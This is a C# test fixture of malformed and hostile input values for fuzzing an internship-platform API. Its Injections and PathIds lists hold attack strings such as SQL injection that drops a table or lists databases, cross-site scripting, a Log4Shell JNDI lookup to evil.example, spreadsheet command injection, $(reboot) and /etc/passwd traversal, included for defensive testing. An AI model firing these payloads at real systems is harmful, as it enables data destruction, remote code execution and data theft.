using System.Text.Json.Nodes;

namespace MicroInternships.EndToEnd.Tests.Reliability;

/// <summary>The values malformed requests are made of: edge numbers, broken dates, awkward text, injection strings.</summary>
public static class HostileValues
{
    public static readonly JsonNode?[] EdgeNumbers =
    [
        -1, 0, -0.0, 1.5, 0.0001, int.MaxValue, int.MinValue, (long)int.MaxValue + 1, long.MaxValue, long.MinValue,
        decimal.MaxValue, double.MaxValue, -double.MaxValue, 1e-300,
    ];

    /// <summary>Numbers no .NET type holds, written as raw JSON.</summary>
    public static readonly string[] OverflowingNumbers = ["9223372036854775808", "1e400", "-1e400", "123456789012345678901234567890", "1E+2147483648"];

    public static readonly string[] Dates =
    [
        "2026-02-30", "2026-13-01", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00-14:00", "9999-12-31T23:59:59+14:00",
        "2026-01-01T25:61:00Z", "2026-01-01T00:00:00+99:00", "tomorrow", "", "2026-01-01", "1700000000", "2026-W01-1",
        "2026-06-01T12:00:00.123456789012Z", "-2026-01-01T00:00:00Z",
    ];

    public static readonly string[] TimeZones =
    [
        "Mars/Olympus_Mons", "", " ", "UTC+99", "../../../etc/passwd", "America/Los_Angeles\0", "Etc/GMT+15", "EST5EDT",
        "Pacific Standard Time", "america/los_angeles", "America/Los Angeles", new string('Z', 5_000),
    ];

    public static readonly string[] Text =
    [
        "\0", "a\u0000b", "\uFFFE\uFFFF", "\u202Egnp.exe", "\u200B\u200C\u200D\uFEFF", "👩🏽‍💻🚀", "e\u0301" + new string('\u0301', 2_000),
        "Ω≈ç√∫˜µ≤≥÷", "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐", "\t\r\n", " ", "", "\u00A0", "null", "undefined", "NaN", "-Infinity",
    ];

    /// <summary>JSON string literals holding unpaired surrogates: valid JSON escapes, invalid text.</summary>
    public static readonly string[] BrokenSurrogates = ["\"\\ud800\"", "\"\\udc00abc\"", "\"a\\ud83d\"", "\"\\udfff\\ud800\""];

    public static readonly string[] Injections =
    [
        "'; DROP TABLE listings; --", "\" OR 1=1 --", "1; SELECT pg_sleep(10)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "%00", "../../../../etc/passwd", "=cmd|' /C calc'!A0", "\\u0000", "$(reboot)",
        "' || (SELECT string_agg(datname, ',') FROM pg_database) || '", "<!--", "]]>", "@import 'x'",
    ];

    public static readonly string[] PathIds =
    [
        "not-a-guid", "0", "-1", "%00", "..%2F..%2Fhealth", new string('a', 5_000), "'%20OR%201=1%20--",
        "00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000000}", "%E2%80%AE", "%C0%AF", "null",
    ];

    public static readonly string[] QueryValues =
    [
        "abc", "-1", "0", "99999999999999999999", "1e400", "", "%00", "' OR 1=1--", "<script>", "2026-13-45", "true", "NaN",
        "AAAA", "!!!notbase64!!!", "eyJhIjoxfQ", "%FF%FE", "%E2%80%AE", "*", "a,b,,,,c", "😀", new string('q', 10_000),
    ];

    public static readonly string[] MassAssignedFields = ["id", "status", "filledCount", "paidAt", "createdAt", "organizationId", "studentId", "version", "amountCents", "partnerId"];

    public static T Pick<T>(this Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];
}
